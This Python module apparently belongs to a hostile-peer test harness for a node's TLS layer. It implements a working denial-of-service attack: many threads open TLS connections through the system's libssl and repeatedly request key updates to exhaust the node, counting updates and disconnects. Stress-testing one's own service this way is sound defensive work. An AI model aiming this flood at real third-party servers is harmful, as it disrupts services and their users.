"""TLS key updates: each asks the other side for one of its own, which it owes from then on."""

import ctypes
import ctypes.util
import socket
import tempfile
import threading
from contextlib import suppress
from pathlib import Path
from typing import Final

import trio
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from peer.node.doors.certificate import make_certificate, private_key
from peer.node.doors.tls import PROTOCOL
from siege.attack import Attack, Scope
from siege.hostile import Hostile
from siege.line import GREEDY
from wire import encode_setup

UPDATE_BYTES: Final = 27
"""Of the record of a key update: 5 of its head, 5 of the message, 1 of its kind, 16 of the tag."""
_FILE_PEM: Final = 1
_REQUESTED: Final = 1


class _OpenSSL:
    """The system's own TLS library: neither Python's module nor pyOpenSSL makes key updates."""

    def __init__(self) -> None:
        name = ctypes.util.find_library("ssl")
        if name is None:
            raise OSError("no libssl on this machine")
        self.lib = ctypes.CDLL(name)
        for function in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.lib, function).restype = ctypes.c_void_p

    def context(self, certificate: Path, key: Path) -> ctypes.c_void_p:
        """For calls that show this certificate."""
        lib = self.lib
        context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
        for function, path in (
            (lib.SSL_CTX_use_certificate_file, certificate),
            (lib.SSL_CTX_use_PrivateKey_file, key),
        ):
            if function(context, str(path).encode(), _FILE_PEM) != 1:
                raise OSError(f"libssl does not take {path.name}")
        return context

    def connect(self, context: ctypes.c_void_p, descriptor: int) -> ctypes.c_void_p:
        """A connection over a socket. OSError if the handshake fails."""
        lib = self.lib
        connection = ctypes.c_void_p(lib.SSL_new(context))
        protocols = bytes((len(PROTOCOL),)) + PROTOCOL
        lib.SSL_set_alpn_protos(connection, protocols, len(protocols))
        lib.SSL_set_fd(connection, descriptor)
        if lib.SSL_connect(connection) != 1:
            lib.SSL_free(connection)
            raise OSError("the TLS handshake failed")
        return connection


class _Flood(threading.Thread):
    """One connection after the other that asks for new keys until the node hangs up."""

    def __init__(self, hostile: Hostile, openssl: _OpenSSL, context: ctypes.c_void_p) -> None:
        super().__init__(daemon=True)
        self._hostile = hostile
        self._openssl = openssl
        self._context = context
        self._stopped = threading.Event()
        self._socket: socket.socket | None = None

    def run(self) -> None:
        while not self._stopped.wait(0.1):
            try:
                self._one()
            except OSError as error:
                self._hostile.ends[str(error)[:60]] += 1

    def stop(self) -> None:
        """Ends the connection, and the thread with it."""
        self._stopped.set()
        with suppress(OSError, AttributeError):
            assert self._socket is not None
            self._socket.shutdown(socket.SHUT_RDWR)

    def _one(self) -> None:
        orders, counts, lib = self._hostile.orders, self._hostile.counts, self._openssl.lib
        with socket.create_connection((orders.host, orders.port), timeout=None) as connected:
            self._socket = connected
            self._hostile.ports.add(connected.getsockname()[1])
            counts["opened"] += 1
            connection = self._openssl.connect(self._context, connected.fileno())
            try:
                setup = encode_setup(GREEDY)
                lib.SSL_write(connection, setup, len(setup))
                while not self._stopped.is_set():
                    lib.SSL_key_update(connection, _REQUESTED)
                    if lib.SSL_do_handshake(connection) != 1:
                        self._hostile.ends["cut"] += 1
                        break
                    counts["key_updates"] += 1
                    counts["sent_bytes"] += UPDATE_BYTES
            finally:
                lib.SSL_free(connection)


def _load(hostile: Hostile) -> tuple[_OpenSSL, ctypes.c_void_p]:
    """The library, which reads certificate and key from files only."""
    with tempfile.TemporaryDirectory() as folder:
        private = private_key(hostile.key)
        certificate, key = Path(folder, "certificate.pem"), Path(folder, "key.pem")
        certificate.write_bytes(make_certificate(private).public_bytes(Encoding.PEM))
        key.write_bytes(private.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
        openssl = _OpenSSL()
        return openssl, openssl.context(certificate, key)


async def _run(hostile: Hostile) -> None:
    openssl, context = _load(hostile)
    floods = [_Flood(hostile, openssl, context) for _ in range(hostile.connections)]
    for flood in floods:
        flood.start()
    try:
        await trio.sleep_forever()
    finally:
        for flood in floods:
            flood.stop()


NEEDS: Final = {"key_updates": 1000, "opened": 1}
ATTACKS: Final = (
    Attack(
        "key-updates",
        "key updates over TLS, by a peer that is allowed",
        _run,
        tls=True,
        scope=Scope(),
        share=0.5,
        needs=NEEDS,
        node_reads=0,
    ),
)
